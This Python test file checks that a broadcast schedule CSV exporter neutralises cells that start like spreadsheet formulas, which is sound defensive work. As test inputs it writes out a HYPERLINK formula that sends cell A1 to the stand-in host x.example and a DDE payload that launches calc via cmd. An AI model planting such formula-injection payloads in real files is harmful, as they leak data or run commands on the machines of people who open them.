"""schedule.csv opens in Excel: a name or title that starts like a formula stays text (issue 9: D14)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from broadcast.pages import PageSession, render_csv


def rows_for(station_name: str, title: str) -> list[list[str]]:
    session = PageSession(dt.date(2023, 7, 1), dt.time(5, 30), "tan-phu", station_name, "district", "general",
                          (title,), 180.0, "a.mp3", "a.m3u8", "a.txt", "a.mp3")
    return list(csv.reader(io.StringIO(render_csv([session]).decode("utf-8-sig"))))


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                     "\t=1+1"])
def test_formula_like_names_and_titles_become_text_cells(payload):
    row = rows_for(payload, payload)[1]
    assert row[3] == "'" + payload and row[6] == "'" + payload
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in row)


def test_ordinary_vietnamese_names_are_unchanged():
    row = rows_for("Đài Truyền thanh huyện Tân Phú", "Giả danh công an")[1]
    assert row[3] == "Đài Truyền thanh huyện Tân Phú" and row[6] == "Giả danh công an"
